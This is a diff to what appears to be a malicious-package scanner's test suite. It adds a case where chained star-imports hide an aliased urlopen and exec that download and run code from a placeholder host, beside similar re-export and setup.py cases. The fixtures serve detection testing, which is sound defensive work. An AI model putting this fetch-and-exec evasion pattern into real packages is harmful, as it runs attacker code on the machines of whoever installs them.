@@ -114,6 +114,14 @@ CASES = [
              "sibling_reexport_alias_hop/__init__.py": (
                  "from ._util import fetch, run\n\nrun(fetch('https://x.invalid/p').read())\n"),
          }, "malicious", ("PV202",), kind="wheel"),
+    Case("evasion: star imports all the way (`from ._util import *`, `from ._base import *`)",
+         "sibling-reexport-star", {
+             "sibling_reexport_star/_base.py": (
+                 "from urllib.request import urlopen as fetch\nfrom builtins import exec as run\n"),
+             "sibling_reexport_star/_util.py": "from ._base import *  # noqa\n",
+             "sibling_reexport_star/__init__.py": (
+                 "from ._util import *\n\nrun(fetch('https://x.invalid/p').read())\n"),
+         }, "malicious", ("PV202",), kind="wheel"),
     Case("download and exec in setup.py through a root helper's re-exports", "setup-reexport-exec", {
         "setup.py": ("from setuptools import setup\nfrom _build import fetch, run\n\n"
                      "run(fetch('https://x.invalid/p').read())\n"
